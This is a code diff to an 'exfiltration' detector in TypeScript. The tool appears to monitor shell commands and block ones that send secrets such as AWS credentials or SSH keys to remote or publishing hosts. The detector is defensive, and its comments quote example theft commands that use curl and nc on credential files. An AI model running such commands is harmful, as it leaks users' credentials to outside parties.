@@ -16,27 +16,30 @@ export const exfiltration: Detector = {
   judges: 'intent',
   evaluate({ event, facts, session, ctx }) {
     const isRemote = (e: Egress) => !isLocalHost(e.host) && !isAllowedHost(e.host, ctx.egressAllow);
-    const remote = facts.egress.filter(isRemote);
-    if (remote.length === 0) return [];
+    // What carries a secret out: a remote host, or a publishing service even on an allowlisted host.
+    const carriesOut = (e: Egress) => isRemote(e) || e.publishes === true;
+    const out = facts.egress.filter(carriesOut);
+    if (out.length === 0) return [];
+    const remote = out.filter(isRemote);
     const findings: Finding[] = [];
     // 1. The command itself carries a secret: `curl -d @~/.aws/credentials …`, `cat id_rsa | nc host`.
     const inline = facts.secrets;
-    const piped = facts.sent.filter((p) => isRemote(p.egress))
+    const piped = facts.sent.filter((p) => carriesOut(p.egress))
       .flatMap((p) => [...secretsAmong(p.paths, ctx, event.id), ...secretDirsAmong(p.paths, ctx, event.id)].map((s) => ({ s, e: p.egress })));
-    const carried = inline.length > 0 ? inline.map((s) => ({ s, e: remote[0]! })) : piped;
+    const carried = inline.length > 0 ? inline.map((s) => ({ s, e: out[0]! })) : piped;
     for (const { s, e } of carried) {
       findings.push({
         rule: 'secret-exfiltration', severity: 'critical', tactic: 'exfiltration', technique: techniqueOf(e),
         title: `Secret sent to ${e.host}`,
-        reason: `The command sends ${s.path} (${s.label}) with ${e.tool} to ${where(e)}, a host outside this machine.`,
+        reason: `The command sends ${s.path} (${s.label}) with ${e.tool} to ${where(e)}, ${e.publishes ? 'where others can read it' : 'a host outside this machine'}.`,
         evidence: [event.id], key: `${s.path}->${e.host}`, block: true,
       });
     }
     // 1b. …or a file a secret was copied into earlier (`cp ~/.aws/credentials /tmp/x`, then `curl -T /tmp/x`).
-    const sentPaths = new Set([...facts.reads, ...facts.sent.filter((p) => isRemote(p.egress)).flatMap((p) => p.paths)]);
+    const sentPaths = new Set([...facts.reads, ...facts.sent.filter((p) => carriesOut(p.egress)).flatMap((p) => p.paths)]);
     for (const t of session.tainted) {
       if (!sentPaths.has(t.path)) continue;
-      const e = remote[0]!;
+      const e = out[0]!;
       const shown = displayPath(t.path, ctx.home);
       findings.push({
         rule: 'secret-exfiltration', severity: 'critical', tactic: 'exfiltration', technique: techniqueOf(e),
@@ -47,7 +50,7 @@ export const exfiltration: Detector = {
     }
     if (findings.length > 0) return findings;
     // 2. Taint: the session read a secret earlier, and now talks to an unknown host.
-    if (session.secretReads.length === 0) return [];
+    if (session.secretReads.length === 0 || remote.length === 0) return [];
     const e = remote[0]!;
     const last = session.secretReads[session.secretReads.length - 1]!;
     const command = event.command ?? '';
